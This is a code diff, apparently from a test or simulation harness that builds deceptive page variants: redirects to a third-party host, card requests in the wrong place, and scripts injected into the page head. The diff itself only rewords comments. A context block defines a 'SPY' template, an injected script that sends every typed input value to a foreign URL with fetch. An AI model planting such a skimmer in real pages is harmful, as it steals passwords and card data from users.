@@ -1,8 +1,8 @@
-// Somebody else's host on the way, and cards asked for where nobody should give one.
+// A third party's host along the way, and requests for a card in the wrong place.
 import type { Around, PageName, Variant } from './variant.ts'
 import { atEnd, atTop, hasTotals, inHead } from './variant.ts'
 
-/** Sent there by the answer itself. */
+/** The response redirects there. */
 function ledAt(at: PageName): Variant {
   return { lead: (page, { foreignUrl }) => (page === at ? `${foreignUrl}/${page}` : null) }
 }
@@ -11,7 +11,7 @@ function headAt(at: PageName, more: (around: Around) => string): Variant {
   return { draw: (html, page, around) => (page === at ? inHead(html, more(around)) : html) }
 }
 
-/** Whatever is typed into the page is sent on at once, in every way that a page has. */
+/** Sends everything that is typed into the page elsewhere at once, in every way that a page can. */
 const SPY = ({ foreignUrl }: Around) => `<script>addEventListener('input', (event) => {
   const to = '${foreignUrl}/spy?it=' + encodeURIComponent(event.target.value)
   fetch(to, { mode: 'no-cors' }).catch(() => {})
